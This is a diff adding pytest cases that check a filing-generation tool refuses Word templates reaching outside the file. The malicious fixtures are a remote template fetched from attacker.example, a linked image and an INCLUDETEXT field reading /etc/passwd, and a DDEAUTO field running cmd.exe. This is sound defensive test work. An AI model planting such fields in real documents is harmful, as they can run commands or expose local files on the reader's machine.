@@ -289,3 +289,71 @@ def test_a_file_that_is_not_a_usable_template_is_a_located_refusal(workspace, ca
     (folder / name).write_bytes(make())
     assert_refused(run_with(workspace, folder), name, message)
     assert_refused(check(folder), name, message)
+
+
+# ------------------------------------------------------------------------- Word content that reaches outside the filing
+
+RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def word_with(extra: dict[str, bytes] | None = None, body: str = "", rels: str = "") -> bytes:
+    """A shipped Word template with entries added, a paragraph of raw XML and relationships appended."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(shipped_docx())) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
+        for item in zin.infolist():
+            data = zin.read(item.filename)
+            if item.filename == "word/document.xml":
+                data = data.replace(b"<w:body>", b"<w:body>" + body.encode("utf-8"), 1)
+            if item.filename == "word/_rels/document.xml.rels":
+                data = data.replace(b"</Relationships>", rels.encode("utf-8") + b"</Relationships>")
+            zout.writestr(item, data)
+        for name, data in (extra or {}).items():
+            zout.writestr(name, data)
+    return out.getvalue()
+
+
+OUTSIDE = [
+    ("attached-remote-template", lambda: word_with({"word/_rels/settings.xml.rels": (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{RELS}/attachedTemplate" Target="http://attacker.example/t.dotm" '
+        'TargetMode="External"/></Relationships>').encode()}),
+     "指向文件外部的引用（attachedTemplate：http://attacker.example/t.dotm）"),
+    ("linked-picture", lambda: word_with(rels=f'<Relationship Id="rId99" Type="{RELS}/image" '
+                                              'Target="file:///etc/passwd" TargetMode="External"/>'),
+     "指向文件外部的引用（image：file:///etc/passwd）"),
+    ("includetext-field", lambda: word_with(body='<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;/etc/passwd&quot; ">'
+                                                 '<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
+     "word/document.xml 含有会读取外部文件或程序的域代码（INCLUDETEXT）"),
+    ("dde-field", lambda: word_with(body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
+                                         '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" </w:instrText>'
+                                         '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
+     "域代码（DDEAUTO）"),
+]
+
+
+@pytest.mark.parametrize("case_id", [c[0] for c in OUTSIDE])
+def test_word_content_that_reaches_outside_the_filing_is_refused(workspace, case_id):
+    """Linked pictures, remote templates and file-reading fields would act when the filing is opened."""
+    make, message = next(c[1:] for c in OUTSIDE if c[0] == case_id)
+    folder = workspace / "tpl"
+    folder.mkdir()
+    (folder / f"{KIND}.docx").write_bytes(make())
+    assert_refused(run_with(workspace, folder), f"{KIND}.docx", message)
+    assert_refused(check(folder), f"{KIND}.docx", message)
+
+
+def test_a_hyperlink_in_a_template_is_kept(workspace):
+    """A link the reader clicks reaches nothing by itself: such a template is used as written."""
+    folder = workspace / "tpl"
+    folder.mkdir()
+    link = ('<w:p><w:hyperlink r:id="rId98"><w:r><w:t>全国12315平台</w:t></w:r></w:hyperlink></w:p>')
+    (folder / f"{KIND}.docx").write_bytes(word_with(body=link, rels=f'<Relationship Id="rId98" Type="{RELS}/hyperlink" '
+                                                                   'Target="https://www.12315.cn/" TargetMode="External"/>'))
+    assert check(folder).exit_code == 0
+    out = workspace / "out"
+    result = CliRunner().invoke(main, [str(workspace / CASE), "--out", str(out), "--templates", str(folder)])
+    assert result.exit_code == 0, result.output
+    with zipfile.ZipFile(out / "txvip-2026-001" / "01_平台退款申请书.docx") as z:
+        assert b"https://www.12315.cn/" in z.read("word/_rels/document.xml.rels")
+        assert "全国12315平台" in z.read("word/document.xml").decode("utf-8")
